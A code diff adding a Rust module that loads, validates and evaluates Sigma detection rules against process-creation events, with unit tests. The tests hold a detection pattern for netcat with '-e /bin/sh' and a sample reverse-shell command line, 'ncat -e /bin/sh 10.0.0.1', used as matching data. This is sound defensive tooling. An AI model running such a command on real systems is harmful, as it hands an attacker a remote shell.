@@ -1,0 +1,456 @@
+//! A Sigma rule file: parsed, checked and compiled in one step. Whatever the engine cannot
+//! evaluate is an error naming the file, the line where it can tell, and the problem.
+
+use std::{
+    borrow::Cow,
+    path::{Path, PathBuf},
+};
+
+use serde_norway::Value;
+
+use super::{
+    condition::{self, Expr},
+    fields::{Category, SigmaFields},
+    pattern::{Mode, Pattern},
+};
+
+#[derive(Debug, thiserror::Error)]
+pub enum RuleError {
+    #[error("{}: cannot read: {reason}", file.display())]
+    Read { file: PathBuf, reason: String },
+    #[error("{}:{line}:{column}: invalid YAML: {message}", file.display())]
+    Yaml {
+        file: PathBuf,
+        line: usize,
+        column: usize,
+        message: String,
+    },
+    #[error("{}{}: {reason}", file.display(), line.map(|l| format!(":{l}")).unwrap_or_default())]
+    Invalid {
+        file: PathBuf,
+        line: Option<usize>,
+        reason: String,
+    },
+    #[error("{}{}: skipped: {reason}", file.display(), line.map(|l| format!(":{l}")).unwrap_or_default())]
+    Unsupported {
+        file: PathBuf,
+        line: Option<usize>,
+        reason: String,
+    },
+}
+
+impl RuleError {
+    pub fn file(&self) -> &Path {
+        match self {
+            Self::Read { file, .. }
+            | Self::Yaml { file, .. }
+            | Self::Invalid { file, .. }
+            | Self::Unsupported { file, .. } => file,
+        }
+    }
+}
+
+#[derive(
+    Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, serde::Serialize, serde::Deserialize,
+)]
+#[serde(rename_all = "snake_case")]
+pub enum Level {
+    Informational,
+    Low,
+    Medium,
+    High,
+    Critical,
+}
+
+/// One field test of a selection.
+#[derive(Clone, Debug)]
+struct FieldMatch {
+    field: String,
+    patterns: Vec<Pattern>,
+    /// `|all`: every value must match (otherwise any one).
+    all: bool,
+    /// `field: null`: the field must be absent or empty.
+    null: bool,
+}
+
+impl FieldMatch {
+    fn matches(&self, value: Option<Cow<'_, str>>) -> bool {
+        if self.null {
+            return value.is_none_or(|v| v.is_empty());
+        }
+        let Some(v) = value else { return false };
+        if self.all {
+            self.patterns.iter().all(|p| p.matches(&v))
+        } else {
+            self.patterns.iter().any(|p| p.matches(&v))
+        }
+    }
+}
+
+/// A selection: alternatives (a list of maps) of conjunctions (one map's fields).
+#[derive(Clone, Debug)]
+struct Selection {
+    alternatives: Vec<Vec<FieldMatch>>,
+}
+
+/// A loaded rule.
+#[derive(Clone, Debug)]
+pub struct SigmaRule {
+    pub id: Option<String>,
+    pub title: String,
+    pub author: Option<String>,
+    pub description: Option<String>,
+    pub level: Level,
+    pub tags: Vec<String>,
+    pub category: Category,
+    pub file: PathBuf,
+    selections: Vec<Selection>,
+    condition: Expr,
+}
+
+/// The first line of `text` holding `needle`, to point an error at.
+fn line_of(text: &str, needle: &str) -> Option<usize> {
+    text.lines().position(|l| l.contains(needle)).map(|i| i + 1)
+}
+
+fn scalar(v: &Value) -> Option<String> {
+    match v {
+        Value::String(s) => Some(s.clone()),
+        Value::Number(n) => Some(n.to_string()),
+        Value::Bool(b) => Some(b.to_string()),
+        _ => None,
+    }
+}
+
+fn text_field(doc: &Value, key: &str) -> Option<String> {
+    doc.get(key).and_then(scalar)
+}
+
+impl SigmaRule {
+    pub fn parse(text: &str, file: &Path) -> Result<Self, RuleError> {
+        let doc: Value = serde_norway::from_str(text).map_err(|e| {
+            let (line, column) = e.location().map_or((0, 0), |l| (l.line(), l.column()));
+            RuleError::Yaml {
+                file: file.to_owned(),
+                line,
+                column,
+                message: e.to_string(),
+            }
+        })?;
+        let invalid = |needle: &str, reason: String| RuleError::Invalid {
+            file: file.to_owned(),
+            line: line_of(text, needle),
+            reason,
+        };
+        let unsupported = |needle: &str, reason: String| RuleError::Unsupported {
+            file: file.to_owned(),
+            line: line_of(text, needle),
+            reason,
+        };
+        let title = text_field(&doc, "title")
+            .ok_or_else(|| invalid("title", "the rule has no title".into()))?;
+        let logsource = doc.get("logsource");
+        let category = Category::from_logsource(
+            logsource
+                .and_then(|l| l.get("product"))
+                .and_then(Value::as_str),
+            logsource
+                .and_then(|l| l.get("category"))
+                .and_then(Value::as_str),
+        )
+        .map_err(|r| unsupported("logsource", r))?;
+        let level = match text_field(&doc, "level").as_deref() {
+            Some("informational") => Level::Informational,
+            Some("low") | None => Level::Low,
+            Some("medium") => Level::Medium,
+            Some("high") => Level::High,
+            Some("critical") => Level::Critical,
+            Some(other) => return Err(invalid("level", format!("unknown level {other:?}"))),
+        };
+        let detection = doc
+            .get("detection")
+            .and_then(Value::as_mapping)
+            .ok_or_else(|| invalid("detection", "the rule has no detection map".into()))?;
+        let mut names = Vec::new();
+        let mut selections = Vec::new();
+        let mut cond_text = None;
+        for (k, v) in detection {
+            let name = k
+                .as_str()
+                .ok_or_else(|| invalid("detection", "a detection key is not a string".into()))?;
+            if name == "condition" {
+                cond_text = Some(match v {
+                    Value::String(s) => s.clone(),
+                    Value::Sequence(list) if list.len() == 1 => {
+                        list[0].as_str().map(str::to_owned).unwrap_or_default()
+                    }
+                    Value::Sequence(_) => {
+                        return Err(unsupported(
+                            "condition",
+                            "several conditions in one rule are not supported".into(),
+                        ));
+                    }
+                    _ => return Err(invalid("condition", "the condition is not a string".into())),
+                });
+                continue;
+            }
+            if name == "timeframe" {
+                return Err(unsupported(
+                    "timeframe",
+                    "timeframes (correlations) are not supported".into(),
+                ));
+            }
+            let sel = compile_selection(name, v, category).map_err(
+                |(needle, reason, is_unsupported)| {
+                    if is_unsupported {
+                        unsupported(&needle, reason)
+                    } else {
+                        invalid(&needle, reason)
+                    }
+                },
+            )?;
+            names.push(name.to_owned());
+            selections.push(sel);
+        }
+        let cond_text = cond_text
+            .ok_or_else(|| invalid("detection", "the detection has no condition".into()))?;
+        let condition = condition::parse(&cond_text, &names).map_err(|r| {
+            if r.contains("not supported") {
+                unsupported("condition", r)
+            } else {
+                invalid("condition", format!("condition {cond_text:?}: {r}"))
+            }
+        })?;
+        let tags = doc
+            .get("tags")
+            .and_then(Value::as_sequence)
+            .map(|t| t.iter().filter_map(scalar).collect())
+            .unwrap_or_default();
+        Ok(Self {
+            id: text_field(&doc, "id"),
+            title,
+            author: text_field(&doc, "author"),
+            description: text_field(&doc, "description"),
+            level,
+            tags,
+            category,
+            file: file.to_owned(),
+            selections,
+            condition,
+        })
+    }
+
+    /// ATT&CK technique ids from the tags (`attack.t1059.004` -> `T1059.004`).
+    pub fn techniques(&self) -> Vec<String> {
+        self.tags
+            .iter()
+            .filter_map(|t| t.strip_prefix("attack.t"))
+            .map(|t| format!("T{}", t.to_uppercase()))
+            .collect()
+    }
+
+    /// Whether `event` matches. Events of another category never do.
+    pub fn matches(&self, event: &dyn SigmaFields) -> bool {
+        if event.category() != self.category {
+            return false;
+        }
+        self.condition.eval(&|i| {
+            self.selections.get(i).is_some_and(|s| {
+                s.alternatives
+                    .iter()
+                    .any(|alt| alt.iter().all(|fm| fm.matches(event.field(&fm.field))))
+            })
+        })
+    }
+}
+
+/// (where to point, the problem, whether it is "unsupported" rather than "invalid").
+type SelError = (String, String, bool);
+
+fn compile_selection(name: &str, v: &Value, category: Category) -> Result<Selection, SelError> {
+    let maps: Vec<&serde_norway::Mapping> = match v {
+        Value::Mapping(m) => vec![m],
+        Value::Sequence(items) if items.iter().all(Value::is_mapping) => {
+            items.iter().filter_map(Value::as_mapping).collect()
+        }
+        Value::Sequence(_) => {
+            return Err((
+                name.to_owned(),
+                format!(
+                    "selection {name:?} is a keyword list (full-text search), which is not supported"
+                ),
+                true,
+            ));
+        }
+        _ => {
+            return Err((
+                name.to_owned(),
+                format!("selection {name:?} is neither a map nor a list of maps"),
+                false,
+            ));
+        }
+    };
+    let mut alternatives = Vec::new();
+    for m in maps {
+        let mut conj = Vec::new();
+        for (k, val) in m {
+            let key = k.as_str().ok_or_else(|| {
+                (
+                    name.to_owned(),
+                    format!("a key of selection {name:?} is not a string"),
+                    false,
+                )
+            })?;
+            conj.push(compile_field(key, val, category)?);
+        }
+        alternatives.push(conj);
+    }
+    Ok(Selection { alternatives })
+}
+
+fn compile_field(key: &str, val: &Value, category: Category) -> Result<FieldMatch, SelError> {
+    let mut parts = key.split('|');
+    let field = parts.next().unwrap_or_default().to_owned();
+    if !category.has_field(&field) {
+        return Err((
+            key.to_owned(),
+            format!("field {field:?} is not available for {category:?} events"),
+            true,
+        ));
+    }
+    let (mut mode, mut all, mut re_flags) = (Mode::Exact, false, String::new());
+    for m in parts {
+        match m {
+            "contains" => mode = Mode::Contains,
+            "startswith" => mode = Mode::StartsWith,
+            "endswith" => mode = Mode::EndsWith,
+            "all" => all = true,
+            "re" => mode = Mode::Regex,
+            "i" | "m" | "s" if mode == Mode::Regex => re_flags.push_str(m),
+            "cidr" => mode = Mode::Cidr,
+            other => {
+                return Err((
+                    key.to_owned(),
+                    format!("modifier {other:?} is not supported"),
+                    true,
+                ));
+            }
+        }
+    }
+    let values: Vec<&Value> = match val {
+        Value::Sequence(list) => list.iter().collect(),
+        v => vec![v],
+    };
+    if values.len() == 1 && values[0].is_null() {
+        return Ok(FieldMatch {
+            field,
+            patterns: Vec::new(),
+            all: false,
+            null: true,
+        });
+    }
+    let mut patterns = Vec::new();
+    for v in values {
+        let s = scalar(v).ok_or_else(|| {
+            (
+                key.to_owned(),
+                format!("a value of {key:?} is not a scalar"),
+                false,
+            )
+        })?;
+        let s = if re_flags.is_empty() {
+            s
+        } else {
+            format!("(?{re_flags}){s}")
+        };
+        patterns.push(Pattern::compile(&s, mode).map_err(|e| (key.to_owned(), e, false))?);
+    }
+    Ok(FieldMatch {
+        field,
+        patterns,
+        all,
+        null: false,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::HashMap;
+
+    use super::*;
+
+    struct Ev(Category, HashMap<&'static str, &'static str>);
+    impl SigmaFields for Ev {
+        fn category(&self) -> Category {
+            self.0
+        }
+        fn field(&self, name: &str) -> Option<Cow<'_, str>> {
+            self.1.get(name).map(|v| Cow::Borrowed(*v))
+        }
+    }
+
+    fn exec(pairs: &[(&'static str, &'static str)]) -> Ev {
+        Ev(Category::ProcessCreation, pairs.iter().copied().collect())
+    }
+
+    fn rule(body: &str) -> SigmaRule {
+        let text = format!(
+            "title: t\nid: x-1\nauthor: A\nlevel: high\ntags:\n  - attack.t1059.004\nlogsource:\n  product: linux\n  category: process_creation\n{body}"
+        );
+        SigmaRule::parse(&text, Path::new("t.yml")).expect("loads")
+    }
+
+    #[test]
+    fn a_real_rule_matches_what_it_describes_and_not_a_near_miss() {
+        let path = concat!(
+            env!("CARGO_MANIFEST_DIR"),
+            "/../../shared/sigma/linux/process_creation/proc_creation_lnx_base64_decode.yml"
+        );
+        let text = std::fs::read_to_string(path).unwrap_or_else(|e| {
+            panic!("{path}: {e} (the SigmaHQ rules live in shared/ beside the checkout)")
+        });
+        let r = SigmaRule::parse(&text, Path::new("base64.yml")).expect("loads");
+        assert_eq!(
+            r.author.as_deref(),
+            Some("Daniil Yugoslavskiy, oscd.community")
+        );
+        assert!(r.matches(&exec(&[
+            ("Image", "/usr/bin/base64"),
+            ("CommandLine", "base64 -d payload")
+        ])));
+        assert!(!r.matches(&exec(&[
+            ("Image", "/usr/bin/base64"),
+            ("CommandLine", "base64 payload")
+        ])));
+        assert!(!r.matches(&Ev(
+            Category::FileEvent,
+            HashMap::from([("Image", "/usr/bin/base64"), ("CommandLine", "-d")])
+        )));
+    }
+
+    #[test]
+    fn lists_all_null_and_filters() {
+        let r = rule(
+            "detection:\n  sel_a:\n    CommandLine|contains|all: ['-e', '/bin/sh']\n  sel_b:\n    - Image|endswith: /nc\n    - Image|endswith: /ncat\n  filter_main:\n    ParentImage: null\n  condition: all of sel_* and not 1 of filter_*\n",
+        );
+        assert_eq!(r.techniques(), ["T1059.004"]);
+        assert_eq!(r.level, Level::High);
+        let hit = exec(&[
+            ("Image", "/usr/bin/ncat"),
+            ("CommandLine", "ncat -e /bin/sh 10.0.0.1"),
+            ("ParentImage", "/bin/bash"),
+        ]);
+        assert!(r.matches(&hit));
+        let only_one_of_all = exec(&[
+            ("Image", "/usr/bin/nc"),
+            ("CommandLine", "nc -e x"),
+            ("ParentImage", "/bin/bash"),
+        ]);
+        assert!(!r.matches(&only_one_of_all));
+        let filtered = exec(&[("Image", "/usr/bin/nc"), ("CommandLine", "nc -e /bin/sh")]);
+        assert!(
+            !r.matches(&filtered),
+            "no parent: the null filter excludes it"
+        );
+    }
+}
